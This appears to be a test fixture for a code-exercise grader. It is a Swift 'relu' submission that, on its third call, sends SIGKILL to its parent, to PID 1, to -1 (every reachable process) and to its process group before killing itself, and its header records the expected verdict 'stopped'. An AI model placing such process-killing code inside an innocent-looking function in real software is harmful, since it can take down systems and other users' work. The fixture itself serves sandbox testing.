//= exercise: relu
//= verdict: stopped
//= why: signal
//= row: signal in the middle: to all processes that it can reach, its parent and its group
import ExerciseKit

@_silgen_name("kill") private func c_kill(_ process: Int32, _ signal: Int32) -> Int32
@_silgen_name("getpid") private func c_getpid() -> Int32
@_silgen_name("getppid") private func c_getppid() -> Int32

nonisolated(unsafe) private var calls = 0

public func relu(_ z: Double) -> Double {
  calls += 1
  if calls == 3 {
    // In a namespace of its own it can reach nothing but itself: these are its own processes alone.
    for process in [c_getppid(), 1, -1, 0] { _ = c_kill(process, 9) }
    _ = c_kill(c_getpid(), 9)
  }
  return max(0, z)
}
